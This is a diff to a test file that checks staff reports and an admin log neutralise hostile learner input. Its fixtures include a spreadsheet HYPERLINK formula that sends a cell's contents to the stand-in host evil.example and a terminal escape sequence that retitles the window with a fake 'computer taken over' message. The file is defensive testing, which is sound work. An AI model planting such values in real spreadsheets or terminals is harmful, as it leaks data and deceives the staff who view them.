@@ -7,6 +7,9 @@ import { TurnLog } from '../src/staff/turn-log.js'
 import { buildReport } from '../src/staff/report.js'
 import { renderReportCsv, renderReportText, REPORT_PROMPTS } from '../src/staff/render-report.js'
 import { terminalSafe } from '../src/text/terminal-safe.js'
+import { AdminStore } from '../src/staff/admin-store.js'
+import { runCli } from './fixtures/run-cli.js'
+import { tempDir } from './fixtures/catalogue/helpers.js'
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"点我领补贴")'
 const RETITLE = '学\x1b]0;你的电脑已被控制\x07电工'
@@ -48,5 +51,23 @@ describe('what learners typed, shown to staff', () => {
     const cells = rows.flat()
     for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@|\t\r]/)
     expect(cells).toContain(`'${HYPERLINK}`)
+  })
+})
+
+describe('what anyone typed, in the admin log', () => {
+  it('prints a refused attempt\'s escape sequences stripped in `learnfinder admin log`', async () => {
+    const tmp = tempDir()
+    try {
+      const path = tmp.file('a.db')
+      const db = openDatabase(path)
+      new AdminStore(db).record({ channel: 'telegram', userId: '42', action: 'kb_show', detail: `/kb_show ${RETITLE}${CLEAR}`, allowed: false })
+      db.close()
+      const r = await runCli(['admin', 'log', '--db', path])
+      expect(r.code).toBe(0)
+      expect(r.out).toContain('telegram:42  REFUSED  /kb_show 学电工考证')
+      expect(r.out).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f]/)
+    } finally {
+      tmp.cleanup()
+    }
   })
 })
